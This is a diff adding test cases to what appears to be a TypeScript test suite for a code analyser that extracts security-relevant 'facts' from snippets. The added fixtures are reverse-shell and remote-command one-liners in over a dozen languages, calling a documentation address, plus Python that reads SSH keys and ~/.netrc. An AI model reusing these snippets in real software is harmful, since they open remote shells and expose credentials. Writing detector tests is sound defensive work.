@@ -193,6 +193,71 @@ const CASES: readonly (readonly [language: string, text: string, facts: readonly
     ['socket-connect(192.0.2.7,1)', 'spawn(id)'],
   ],
   ['cobol', 'CALL "SYSTEM" USING "id".', []],
+  [
+    'python',
+    'import glob,os,netrc\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")): print(open(f).read())\nnetrc.netrc()',
+    ['file-read(~/.ssh/*)', 'file-read(~/.netrc)'],
+  ],
+  [
+    'python',
+    'import subprocess\nc=open("c.txt").read()\nsubprocess.run(c,shell=True)',
+    ['file-read(c.txt)', 'spawn()'],
+  ],
+  [
+    'javascript',
+    'import("node:net").then(n=>{const s=n.connect(1,"192.0.2.7");import("node:child_process").then(c=>c.spawn("sh",{stdio:[s,s]}))})',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell(sh)', 'dup-to-stdio()'],
+  ],
+  [
+    'javascript',
+    'const W=require("ws");const w=new W("ws://192.0.2.7:9");w.on("message",m=>require("child_process").exec(m.toString()))',
+    ['socket-connect(192.0.2.7,9)', 'fetch(ws://192.0.2.7:9)', 'spawn-shell()'],
+  ],
+  [
+    'bun',
+    'Bun.connect({hostname:"192.0.2.7",port:1,socket:{data(s,d){Bun.spawnSync(["sh","-c",d.toString()])}}})',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell()'],
+  ],
+  ['perl', 'while(<$c>){print $c qx($_)}', ['spawn-shell()']],
+  [
+    'php',
+    '$s=fsockopen("192.0.2.7",1);while($c=fgets($s)){$o=`$c`;}',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell()'],
+  ],
+  ['php', '$s="id; /bin/sh -i";proc_open($s,$d,$p);', ['spawn-shell(id; /bin/sh -i)']],
+  [
+    'powershell',
+    '$c=[Net.Sockets.TcpClient]::new("192.0.2.7",1);& ([scriptblock]::Create($l))',
+    ['socket-connect(192.0.2.7,1)', 'evaluate()'],
+  ],
+  ['jshell', 'Runtime.getRuntime().exec(new String[]{"sh","-i"});', ['spawn-shell(sh -i)']],
+  [
+    'dart',
+    'Socket.connect("192.0.2.7", 1).then((s) { Process.start("sh", []); });',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell(sh)'],
+  ],
+  [
+    'crystal',
+    'c=Socket.tcp(X);c.connect("192.0.2.7",1);m,l=c.receive;Process.new(m.rstrip,shell:true)',
+    ['socket-connect(,)', 'socket-connect(192.0.2.7,1)', 'spawn-shell()'],
+  ],
+  [
+    'tclsh',
+    'set s [socket 192.0.2.7 1];gets $s c;exec $c;exec ls -l',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell()', 'spawn(ls -l)'],
+  ],
+  [
+    'Rscript',
+    's<-socketConnection("192.0.2.7",1);system(readLines(s,1))',
+    ['socket-connect(192.0.2.7,1)', 'spawn-shell()', 'file-read()'],
+  ],
+  [
+    'julia',
+    'c=connect("192.0.2.7",1);run(`ls -l`);run(Cmd(["sh","-c",x]))',
+    ['socket-connect(192.0.2.7,1)', 'spawn(ls -l)', 'spawn(ls -l)', 'spawn-shell()', 'spawn-shell()'],
+  ],
+  ['elixir', '{:ok,s}=:gen_tcp.connect({192,0,2,7},1,[]);:os.cmd(d)', ['socket-connect(192.0.2.7,1)', 'spawn-shell()']],
+  ['osascript', 'do shell script "id -u"', ['spawn(id -u)']],
 ];
 
 describe('codeFacts', () => {
